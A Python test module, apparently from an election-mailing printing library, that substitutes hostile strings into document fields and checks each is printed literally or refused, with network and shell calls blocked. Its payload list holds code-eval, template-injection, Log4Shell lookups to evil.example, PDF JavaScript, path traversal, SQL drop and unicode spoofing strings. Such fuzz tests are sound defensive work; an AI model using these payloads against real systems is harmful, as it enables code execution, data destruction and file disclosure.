"""Words that would be orders to whoever took them for such: markup, code, addresses, letters that lead astray.

SECURITY 9, row 14. Each document of the house is printed with one of its texts replaced; what is printed is that text,
letter for letter, or it was refused. Nobody works anything out, and nobody asks the network.
"""

import dataclasses
import os
import socket
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from functools import cache
from pathlib import Path
from random import Random
from typing import Any
from unittest import mock

from lmcvote import bundled, documents, settings
from lmcvote.findings import Refusal
from lmcvote.paper import markup
from tests import correspondence, mailings, petitions
from tests.assured import Ran
from tests.prints import HOSTILE, bare, pages, printed

RUN_IT = "[x for x in [__import__('os').system('touch EVALUATED')]]"
PAYLOADS = (
    *HOSTILE,
    f'<font color="{RUN_IT}">Jane</font>',
    '<img src="http://evil.example/a.png" width="1" height="1"/>',
    '<a href="http://evil.example/">Jane</a>',
    '<para backColor="red"><onDraw name="x"/></para>',
    "{{ cycler.__init__.__globals__.os.system('touch EVALUATED') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://evil.example/a}",
    ") Tj ET /JS (app.alert(1)) BT (",
    "%PDF-1.7 endobj",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "../../../etc/passwd",
    "'; DROP TABLE elector; --",
    "W" * 120,
    "Featherstonehaugh-" * 7,
    "\u05d0\u05d1\u05d2 Jane",
    "\u0645\u062d\u0645\u062f",
    "Jane\u202eenaJ",
    "Ja\u200bne \u2066x\u2069",
    "\ud83d\udc4d".encode("utf-16", "surrogatepass").decode("utf-16"),
)
PLAIN, LONG = "Qqzzx", 60
REFUSED = "refused"
Way = tuple[str | int, ...]
"""Names of fields and places in tuples, down to a text."""


@cache
def every() -> tuple[documents.Document, ...]:
    """One of each document that is posted or pinned up, of an election and of a petition."""
    election, recall = (settings.read(bundled.folder("ballots") / like) for like in ("board-election", "recall"))
    return (*correspondence.each(election), *mailings.each(election), *petitions.each(recall))


def texts(value: object, path: Way = ()) -> Iterator[Way]:
    """The way to each text of a value."""
    if isinstance(value, str):
        yield path
    elif dataclasses.is_dataclass(value):
        for field in dataclasses.fields(value):
            yield from texts(getattr(value, field.name), (*path, field.name))
    elif isinstance(value, Sequence):
        for place, one in enumerate(value):
            yield from texts(one, (*path, place))


def with_words(value: Any, path: Way, words: str) -> Any:  # noqa: ANN401 -- whatever the document is made of
    """The same value with other words at the end of a way."""
    if not path:
        return words
    first, *rest = path
    if isinstance(first, str):
        return dataclasses.replace(value, **{first: with_words(getattr(value, first), tuple(rest), words)})
    changed = [with_words(one, tuple(rest), words) if place == first else one for place, one in enumerate(value)]
    return type(value)(changed)


@cache
def shows(nth: int, way: Way) -> int:
    """How often a document prints this text: most texts of an election stand on others."""
    try:
        text = documents.rendered(with_words(every()[nth], way, PLAIN))
        return bare("".join(pages(printed(text)))).count(PLAIN) if PLAIN in text else 0
    except (Refusal, ValueError, KeyError):  # a word that chooses the wording
        return 0


def _asked(*_: object, **__: object) -> None:
    raise AssertionError("asked the network, or the system")


def told(document: documents.Document, words: str, times: int) -> str:
    """What is wrong with a document that has these words so many times; empty where they are printed, or refused."""
    try:
        found = bare("".join(pages(printed(documents.rendered(document))))).count(bare(markup.shown(words)))
    except (Refusal, ValueError):  # a letter that no font has
        return REFUSED
    least = times if len(words) < LONG else 1  # long ones move what follows, and heads of pages with it
    return "" if found >= least else f"{words!r} is printed {found} times, and not {times}"


def printed_with(number: int, seed: int = 14) -> Ran:
    """So many documents with one text replaced; one in whose words it does not stand is another reader's."""
    chance, found, failures = Random(seed), Counter[str](), list[str]()  # noqa: S311 -- the same each time
    kinds = every()
    ways: Mapping[int, list[Way]] = {nth: list(texts(kind)) for nth, kind in enumerate(kinds)}
    with mock.patch.multiple(socket, socket=_asked, create_connection=_asked), mock.patch.object(os, "system", _asked):
        for _ in range(number):
            nth, words = chance.randrange(len(kinds)), chance.choice(PAYLOADS)
            while not shows(nth, way := chance.choice(ways[nth])):
                nth = chance.randrange(len(kinds))
            try:
                why = told(with_words(kinds[nth], way, words), words, shows(nth, way))
            except Exception as fault:  # noqa: BLE001 -- told as the failure that it is
                why = repr(fault)
            found[why or "printed"] += 1
            if why not in ("", REFUSED):
                failures.append(f"{type(kinds[nth]).__name__}.{'.'.join(map(str, way))}: {why}")
    failures += ["something was evaluated"] * Path("EVALUATED").exists()
    return Ran(number, tuple(failures), f"{found['printed']} printed, {found[REFUSED]} refused")
